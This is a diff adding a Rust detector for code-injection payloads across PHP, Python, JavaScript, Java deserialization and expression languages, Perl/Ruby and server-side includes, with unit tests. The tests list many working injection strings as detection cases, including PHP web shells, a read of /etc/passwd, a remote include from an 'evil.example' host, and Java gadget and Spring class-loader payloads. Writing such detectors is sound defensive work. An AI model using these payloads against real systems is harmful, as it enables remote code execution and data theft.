@@ -1,7 +1,375 @@
-//! (stub; being written)
+//! Code injection into interpreters: PHP, Python, server-side JavaScript, Java (OGNL, SpEL,
+//! serialized objects and gadget classes), Perl/Ruby and server-side includes.
+//!
+//! Names alone prove nothing ("the system was down", "please evaluate"), so every rule needs
+//! structure around the name: a call with an argument list that looks like code (a quoted
+//! string, a variable, a nested call), a qualified API path (`os.system(`, `Runtime.getRuntime`),
+//! a language opener (`<?php`, `<!--#exec`, `@{[`), an obfuscated callee (`(sy.(st).em)(`,
+//! `"sys"."tem"(`), or a deserialization context (magic bytes, `@type`, XMLDecoder, a whole value
+//! that is a class name of a gadget package). Method calls (`re.exec(s)`) are not bare calls.
+//!
+//! Text with `\uXXXX` / `\xNN` escapes is scanned a second time unescaped, the way a JavaScript
+//! or PHP string literal would be read by the interpreter.
 
+#[path = "code_injection_java.rs"]
+mod java;
+#[path = "code_injection_php.rs"]
+mod php;
+#[path = "code_injection_script.rs"]
+mod script;
+
+use crate::check::Check;
 use crate::finding::Finding;
 
-pub fn inspect(_text: &str) -> Option<Finding> {
-    None
+/// Scores at or above this are findings; weaker evidence is dropped.
+pub const THRESHOLD: f32 = 0.5;
+
+/// Bytes of one value examined (payloads are short; the head is where they live).
+const MAX_TEXT: usize = 64 * 1024;
+/// Occurrences of one name examined per value.
+const MAX_SITES: usize = 32;
+/// Bytes skipped between a name and its `(` (whitespace and comments).
+const MAX_GAP: usize = 64;
+/// Bytes of one argument list examined.
+const MAX_ARGS: usize = 512;
+
+pub fn inspect(text: &str) -> Option<Finding> {
+    let text = head(text, MAX_TEXT);
+    let dotted =
+        (text.contains('.') || text.contains("://")) && !text.contains(char::is_whitespace);
+    if !dotted
+        && !text.bytes().any(|b| b"(<{[@$%#`\n\"':".contains(&b))
+        && !java::may_be_magic(text)
+    {
+        return None;
+    }
+    let mut best = Best::default();
+    scan(text, &mut best);
+    if let Some(plain) = unescape(text) {
+        let mut inner = Best::default();
+        scan(&plain, &mut inner);
+        if let Some((s, why)) = inner.0 {
+            best.keep(s, format!("{why} (after unescaping \\u/\\x sequences)"));
+        }
+    }
+    let (score, why) = best.0?;
+    (score >= THRESHOLD).then(|| Finding::new(Check::CodeInjection, score, why))
+}
+
+fn scan(text: &str, best: &mut Best) {
+    let lower = text.to_ascii_lowercase();
+    let v = View {
+        text,
+        lower: &lower,
+    };
+    php::scan(&v, best);
+    script::scan(&v, best);
+    java::scan(&v, best);
+    ssi(&v, best);
+}
+
+/// One value as the rules see it: the original and an ASCII-lower-cased copy with the same
+/// byte offsets.
+pub(crate) struct View<'a> {
+    pub text: &'a str,
+    pub lower: &'a str,
+}
+
+/// The strongest evidence so far.
+#[derive(Default)]
+pub(crate) struct Best(Option<(f32, String)>);
+
+impl Best {
+    pub fn keep(&mut self, score: f32, why: impl Into<String>) {
+        if self.0.as_ref().is_none_or(|(s, _)| score > *s) {
+            self.0 = Some((score, why.into()));
+        }
+    }
+}
+
+/// What the argument list of a call starts with.
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub(crate) enum Arg {
+    /// `()`
+    Empty,
+    /// `('...'`, `("..."`, `` (`...` ``
+    Quoted,
+    /// `($x`, `($_GET[...]`
+    Variable,
+    /// `(f(...)` or an expression containing a call
+    Call,
+    /// `(word)`, `(a, b)`: plain words only
+    Words,
+}
+
+/// A call site: the name's end, the argument kind, the argument text and what follows `)`.
+pub(crate) struct Call<'a> {
+    pub arg: Arg,
+    pub args: &'a str,
+    /// The `)` was found.
+    pub closed: bool,
+    /// Text after the closing `)` (empty when not closed).
+    pub after: &'a str,
+}
+
+fn is_ident(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_'
+}
+
+/// Occurrences of `name` in `lower` that are whole words and not a method or property of
+/// something else (`x.exec`, `$obj->exec`, `Foo::exec`) unless `qualified` is given.
+pub(crate) fn word_sites<'a>(lower: &'a str, name: &'a str) -> impl Iterator<Item = usize> + 'a {
+    let b = lower.as_bytes();
+    lower
+        .match_indices(name)
+        .map(|(i, _)| i)
+        .filter(move |&i| {
+            let before_ok = i == 0 || {
+                let p = b[i - 1];
+                !is_ident(p)
+                    && p != b'.'
+                    && p != b'$'
+                    && !(p == b'>' && i >= 2 && b[i - 2] == b'-')
+                    && !(p == b':' && i >= 2 && b[i - 2] == b':')
+            };
+            let end = i + name.len();
+            let after_ok = end >= b.len() || !is_ident(b[end]);
+            before_ok && after_ok
+        })
+        .take(MAX_SITES)
+}
+
+/// Skips whitespace, vertical tabs and comments (`/* */`, `//`, `#` to end of line) from `at`;
+/// bounded by [`MAX_GAP`]. Returns the new offset.
+pub(crate) fn skip_gap(lower: &str, mut at: usize) -> usize {
+    let b = lower.as_bytes();
+    let limit = (at + MAX_GAP).min(b.len());
+    while at < limit {
+        match b[at] {
+            b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c => at += 1,
+            b'/' if b.get(at + 1) == Some(&b'*') => match lower[at + 2..].find("*/") {
+                Some(p) if p < MAX_GAP => at += 2 + p + 2,
+                _ => return at,
+            },
+            b'/' if b.get(at + 1) == Some(&b'/') => match lower[at..].find('\n') {
+                Some(p) => at += p + 1,
+                None => return at,
+            },
+            b'#' => match lower[at..].find('\n') {
+                Some(p) => at += p + 1,
+                None => return at,
+            },
+            _ => return at,
+        }
+    }
+    at
+}
+
+/// The call whose callee ends at `end` (just after the name), if a `(` follows.
+pub(crate) fn call_at(lower: &str, end: usize) -> Option<Call<'_>> {
+    let open = skip_gap(lower, end);
+    if lower.as_bytes().get(open) != Some(&b'(') {
+        return None;
+    }
+    let rest = &lower[open + 1..];
+    let limit = rest.len().min(MAX_ARGS);
+    let b = rest.as_bytes();
+    let mut depth = 0usize;
+    let mut quote: Option<u8> = None;
+    let mut close = None;
+    for (i, &c) in b.iter().enumerate().take(limit) {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, b'\'' | b'"' | b'`') => quote = Some(c),
+            (None, b'(') => depth += 1,
+            (None, b')') if depth == 0 => {
+                close = Some(i);
+                break;
+            }
+            (None, b')') => depth -= 1,
+            _ => {}
+        }
+    }
+    let args = match close {
+        Some(i) => &rest[..i],
+        None => head(rest, limit),
+    };
+    let a = args.trim_start_matches(|c: char| c.is_whitespace() || c == '@');
+    let arg = match a.as_bytes().first() {
+        None if close.is_some() => Arg::Empty,
+        None => Arg::Words,
+        Some(b'\'' | b'"' | b'`') => Arg::Quoted,
+        Some(b'$') => Arg::Variable,
+        _ if has_call(a) => Arg::Call,
+        _ => Arg::Words,
+    };
+    Some(Call {
+        arg,
+        args,
+        closed: close.is_some(),
+        after: close.map_or("", |i| &rest[i + 1..]),
+    })
+}
+
+/// `name(` somewhere in `s`.
+pub(crate) fn has_call(s: &str) -> bool {
+    let b = s.as_bytes();
+    b.iter()
+        .enumerate()
+        .any(|(i, &c)| c == b'(' && i > 0 && is_ident(b[i - 1]))
+}
+
+/// What follows a call ends a statement: `;`, `?>`, a closer, or nothing.
+pub(crate) fn ends_statement(after: &str) -> bool {
+    let a = after.trim_start();
+    a.is_empty() || a.starts_with([';', '?', ')', ']', '}', '|', '&', '.', ','])
+}
+
+/// The value is little more than the given span (a payload on its own).
+pub(crate) fn alone(text: &str, span: usize) -> bool {
+    text.trim().len() <= span + 8
+}
+
+/// The longest prefix of `s` that is at most `n` bytes and ends on a char boundary.
+pub(crate) fn head(s: &str, n: usize) -> &str {
+    let mut end = s.len().min(n);
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    &s[..end]
+}
+
+/// Server-side include directives: `<!--#exec cmd=`, `<!--#include virtual=`, `<!--#echo var=`.
+fn ssi(v: &View, best: &mut Best) {
+    for (at, _) in v.lower.match_indices("<!--#").take(MAX_SITES) {
+        let rest = &v.lower[at + 5..];
+        let word: String = rest
+            .chars()
+            .take_while(|c| c.is_ascii_alphabetic())
+            .collect();
+        let after = rest[word.len()..].trim_start();
+        let attr = after
+            .split_once('=')
+            .is_some_and(|(k, _)| !k.is_empty() && k.bytes().all(|b| b.is_ascii_alphabetic()));
+        let score = match word.as_str() {
+            "exec" if attr => 0.95,
+            "include" if attr => 0.9,
+            "printenv" if after.starts_with("-->") => 0.9,
+            "echo" | "config" | "set" | "fsize" | "flastmod" | "if" | "elif" if attr => 0.8,
+            _ => continue,
+        };
+        best.keep(score, format!("server-side include directive <!--#{word}"));
+    }
+}
+
+/// `\uXXXX` and `\xNN` escapes resolved, or `None` when there are none.
+fn unescape(text: &str) -> Option<String> {
+    if !text.contains("\\u") && !text.contains("\\x") && !text.contains("\\X") {
+        return None;
+    }
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    let mut changed = false;
+    while let Some(p) = rest.find('\\') {
+        out.push_str(&rest[..p]);
+        let tail = &rest[p + 1..];
+        let (digits, skip) = match tail.as_bytes().first() {
+            Some(b'u') => (4, 1),
+            Some(b'x' | b'X') => (2, 1),
+            _ => (0, 0),
+        };
+        let hex = tail.get(skip..skip + digits).unwrap_or("");
+        match (digits > 0 && hex.len() == digits)
+            .then(|| u32::from_str_radix(hex, 16).ok())
+            .flatten()
+            .and_then(char::from_u32)
+        {
+            Some(c) => {
+                out.push(c);
+                changed = true;
+                rest = &tail[skip + digits..];
+            }
+            None => {
+                out.push('\\');
+                rest = tail;
+            }
+        }
+    }
+    out.push_str(rest);
+    changed.then_some(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn flagged(s: &str) -> bool {
+        inspect(s).is_some()
+    }
+
+    #[test]
+    fn attacks_across_languages() {
+        let cases = [
+            "<?php system($_GET['c']); ?>",
+            "<?= `id` ?>",
+            "system('cat /etc/passwd');",
+            "eval(base64_decode($x));",
+            "$_GET['f']($_POST['a']);",
+            "(sy.(st).em)('uname');",
+            "\"sys\".\"tem\"('id');",
+            "system/**/('id');",
+            "preg_replace('/.*/e', $_GET['x'], '')",
+            "include('http://evil.example/shell.txt');",
+            "php://input",
+            "__import__('os').system('id')",
+            "import subprocess; subprocess.check_output(['id'])",
+            "cos\nsystem\n(S'id'\ntR.",
+            "require('child_process').exec('id')",
+            "\\u0072equire(\"child_process\").exec('id')",
+            "process.mainModule.require('child_process')",
+            "Runtime.getRuntime().exec(\"id\")",
+            "new ProcessBuilder(\"id\").start()",
+            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
+            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/\"}",
+            "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"/></object></java>",
+            "<!--#exec cmd=\"ls\" -->",
+            "@{[system 'id']}",
+            "%x(id)",
+            "Kernel.exec('id')",
+        ];
+        let missed: Vec<_> = cases.iter().filter(|s| !flagged(s)).collect();
+        assert!(missed.is_empty(), "missed: {missed:#?}");
+    }
+
+    #[test]
+    fn prose_and_code_pass() {
+        let cases = [
+            "the system was down for an hour",
+            "please evaluate the proposal and exec summary",
+            "Our system (the old one) needs an upgrade soon, see the docs.",
+            "use re.exec(str) to match",
+            "{\"type\": \"com.example.Order\", \"city\": \"Zürich\"}",
+            "java.lang.String is immutable",
+            "mailto:o'brien@example.com",
+            "https://example.com/search?q=eval",
+            "Run `pip install flask` then `flask run`.",
+            "<!-- comment -->",
+            "copy & paste, Tom & Jerry",
+            "$(document).ready(function() { init(); });",
+        ];
+        let wrong: Vec<_> = cases.iter().filter(|s| flagged(s)).collect();
+        assert!(wrong.is_empty(), "flagged: {wrong:#?}");
+    }
+
+    #[test]
+    fn hostile_input_does_not_panic() {
+        let _ = inspect(&"system(".repeat(20_000));
+        let _ = inspect(&"\\u00".repeat(20_000));
+        let _ = inspect("é\\xé\\u12é<!--#é");
+        let _ = inspect(&"(".repeat(100_000));
+    }
 }
